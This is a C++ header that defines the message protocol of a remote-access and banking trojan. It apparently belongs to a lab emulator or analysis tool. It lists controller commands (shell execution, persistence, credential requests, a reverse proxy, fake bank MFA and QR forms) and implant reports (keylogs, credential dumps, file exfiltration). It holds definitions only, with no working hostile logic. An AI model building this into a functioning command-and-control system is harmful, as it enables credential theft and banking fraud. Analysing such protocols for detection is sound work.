// Protocol message model: one tagged variant per command the controller can issue
// and per report the implant can return. Stub commands carry no payload but keep
// their own tags so captures show exactly what was asked.

#pragma once

#include <cstdint>
#include <map>
#include <optional>
#include <string>
#include <variant>
#include <vector>

#include "bqlab/bytes.hpp"

namespace bqlab::wire {

// ---- controller -> implant ----

struct Reconnect {
    bool operator==(const Reconnect&) const = default;
};
struct Disconnect {
    bool operator==(const Disconnect&) const = default;
};
struct UninstallPersistence {
    bool operator==(const UninstallPersistence&) const = default;
};
struct GetStartupItems {
    bool operator==(const GetStartupItems&) const = default;
};
struct AddStartupItem {
    std::string path;
    std::string keyName;
    bool operator==(const AddStartupItem&) const = default;
};
struct RemoveStartupItem {
    std::string keyName;
    bool operator==(const RemoveStartupItem&) const = default;
};
struct ExfilMonitorSettings {
    bool operator==(const ExfilMonitorSettings&) const = default;
};
struct ExfilProcesses {
    bool operator==(const ExfilProcesses&) const = default;
};
struct ExfilDrives {
    bool operator==(const ExfilDrives&) const = default;
};
struct KillProcess {
    std::uint32_t pid = 0;
    bool operator==(const KillProcess&) const = default;
};
struct StartProcess {
    std::string path;
    std::string args;
    bool operator==(const StartProcess&) const = default;
};
struct ExfilAssetInfo {
    bool operator==(const ExfilAssetInfo&) const = default;
};
struct InputDeviceAction {
    std::string kind;
    Bytes payload;
    bool operator==(const InputDeviceAction&) const = default;
};
struct ShowMessageBox {
    std::string text;
    bool operator==(const ShowMessageBox&) const = default;
};
struct ShowMfaForm {
    std::string bankCode;
    bool operator==(const ShowMfaForm&) const = default;
};
struct ShowQrForm {
    std::string bankCode;
    bool operator==(const ShowQrForm&) const = default;
};
struct RfidCommand {
    std::int32_t code = 0;
    std::string argument;
    bool operator==(const RfidCommand&) const = default;
};
struct ShellCommand {
    std::string commandLine;
    bool operator==(const ShellCommand&) const = default;
};
struct RenamePath {
    std::string from;
    std::string to;
    bool operator==(const RenamePath&) const = default;
};
struct Shutdown {
    bool operator==(const Shutdown&) const = default;
};
struct Reboot {
    bool operator==(const Reboot&) const = default;
};
struct CancelDownloads {
    bool operator==(const CancelDownloads&) const = default;
};
struct ConnectReverseProxy {
    std::string host;
    std::uint16_t port = 0;
    bool operator==(const ConnectReverseProxy&) const = default;
};
struct RequestLogs {
    bool operator==(const RequestLogs&) const = default;
};
struct RequestCredentials {
    bool operator==(const RequestCredentials&) const = default;
};

// ---- implant -> controller ----

struct BasicAssetInfo {
    std::string machineName;
    std::string dateTime;
    std::vector<std::string> pluginCodes;
    bool operator==(const BasicAssetInfo&) const = default;
};
struct AssetInfoExtended {
    std::map<std::string, std::string> fields;
    bool operator==(const AssetInfoExtended&) const = default;
};
struct ProcessEntry {
    std::uint32_t pid = 0;
    std::string image;
    std::string commandLine;
    std::string parentImage;
    bool operator==(const ProcessEntry&) const = default;
};
struct ProcessList {
    std::vector<ProcessEntry> entries;
    bool operator==(const ProcessList&) const = default;
};
struct DriveEntry {
    std::string letter;
    std::string label;
    std::uint64_t capacityBytes = 0;
    bool operator==(const DriveEntry&) const = default;
};
struct DriveList {
    std::vector<DriveEntry> entries;
    bool operator==(const DriveList&) const = default;
};
struct MonitorSettings {
    std::map<std::string, std::string> fields;
    bool operator==(const MonitorSettings&) const = default;
};
struct StartupItem {
    std::string location;
    std::string name;
    std::string command;
    bool operator==(const StartupItem&) const = default;
};
struct StartupItems {
    std::vector<StartupItem> entries;
    bool operator==(const StartupItems&) const = default;
};
struct KeylogData {
    std::string text;
    bool operator==(const KeylogData&) const = default;
};
struct CredentialEntry {
    std::string source;
    std::string username;
    std::string secret;
    bool operator==(const CredentialEntry&) const = default;
};
struct CredentialDump {
    std::vector<CredentialEntry> entries;
    bool operator==(const CredentialDump&) const = default;
};
struct FileBlock {
    std::string filename;
    Bytes payload;
    std::uint32_t index = 0;
    std::optional<std::string> error;
    std::uint64_t totalLength = 0;
    bool operator==(const FileBlock&) const = default;
};
struct FileBlockMsg {
    FileBlock block;
    bool operator==(const FileBlockMsg&) const = default;
};
struct Ack {
    std::uint8_t refTag = 0;
    bool operator==(const Ack&) const = default;
};
struct ErrorReport {
    std::string text;
    bool operator==(const ErrorReport&) const = default;
};
struct GeoResult {
    std::string ip;
    std::string country;
    std::string countryCode;
    std::string flagName;
    bool operator==(const GeoResult&) const = default;
};
struct GeoReport {
    GeoResult geo;
    bool operator==(const GeoReport&) const = default;
};

using Packet = std::variant<
    Reconnect, Disconnect, UninstallPersistence, GetStartupItems, AddStartupItem,
    RemoveStartupItem, ExfilMonitorSettings, ExfilProcesses, ExfilDrives, KillProcess,
    StartProcess, ExfilAssetInfo, InputDeviceAction, ShowMessageBox, ShowMfaForm, ShowQrForm,
    RfidCommand, ShellCommand, RenamePath, Shutdown, Reboot, CancelDownloads,
    ConnectReverseProxy, RequestLogs, RequestCredentials, BasicAssetInfo, AssetInfoExtended,
    ProcessList, DriveList, MonitorSettings, StartupItems, KeylogData, CredentialDump,
    FileBlockMsg, Ack, ErrorReport, GeoReport>;

template <class T>
struct PacketTraits;

#define BQLAB_PACKET_TRAITS(type, tagValue)                     \
    template <>                                                 \
    struct PacketTraits<type> {                                 \
        static constexpr std::uint8_t kTag = tagValue;          \
        static constexpr const char* kName = #type;             \
    };

BQLAB_PACKET_TRAITS(Reconnect, 1)
BQLAB_PACKET_TRAITS(Disconnect, 2)
BQLAB_PACKET_TRAITS(UninstallPersistence, 3)
BQLAB_PACKET_TRAITS(GetStartupItems, 4)
BQLAB_PACKET_TRAITS(AddStartupItem, 5)
BQLAB_PACKET_TRAITS(RemoveStartupItem, 6)
BQLAB_PACKET_TRAITS(ExfilMonitorSettings, 7)
BQLAB_PACKET_TRAITS(ExfilProcesses, 8)
BQLAB_PACKET_TRAITS(ExfilDrives, 9)
BQLAB_PACKET_TRAITS(KillProcess, 10)
BQLAB_PACKET_TRAITS(StartProcess, 11)
BQLAB_PACKET_TRAITS(ExfilAssetInfo, 12)
BQLAB_PACKET_TRAITS(InputDeviceAction, 13)
BQLAB_PACKET_TRAITS(ShowMessageBox, 14)
BQLAB_PACKET_TRAITS(ShowMfaForm, 15)
BQLAB_PACKET_TRAITS(ShowQrForm, 16)
BQLAB_PACKET_TRAITS(RfidCommand, 17)
BQLAB_PACKET_TRAITS(ShellCommand, 18)
BQLAB_PACKET_TRAITS(RenamePath, 19)
BQLAB_PACKET_TRAITS(Shutdown, 20)
BQLAB_PACKET_TRAITS(Reboot, 21)
BQLAB_PACKET_TRAITS(CancelDownloads, 22)
BQLAB_PACKET_TRAITS(ConnectReverseProxy, 23)
BQLAB_PACKET_TRAITS(RequestLogs, 24)
BQLAB_PACKET_TRAITS(RequestCredentials, 25)
BQLAB_PACKET_TRAITS(BasicAssetInfo, 64)
BQLAB_PACKET_TRAITS(AssetInfoExtended, 65)
BQLAB_PACKET_TRAITS(ProcessList, 66)
BQLAB_PACKET_TRAITS(DriveList, 67)
BQLAB_PACKET_TRAITS(MonitorSettings, 68)
BQLAB_PACKET_TRAITS(StartupItems, 69)
BQLAB_PACKET_TRAITS(KeylogData, 70)
BQLAB_PACKET_TRAITS(CredentialDump, 71)
BQLAB_PACKET_TRAITS(FileBlockMsg, 72)
BQLAB_PACKET_TRAITS(Ack, 73)
BQLAB_PACKET_TRAITS(ErrorReport, 74)
BQLAB_PACKET_TRAITS(GeoReport, 75)

#undef BQLAB_PACKET_TRAITS

inline std::uint8_t tagOf(const Packet& p) {
    return std::visit(
        [](const auto& v) { return PacketTraits<std::decay_t<decltype(v)>>::kTag; }, p);
}

inline const char* nameOf(const Packet& p) {
    return std::visit(
        [](const auto& v) { return PacketTraits<std::decay_t<decltype(v)>>::kName; }, p);
}

/// True for variants the controller sends; the complement reports back.
inline bool isControllerCommand(const Packet& p) {
    return tagOf(p) < 64;
}

} // namespace bqlab::wire
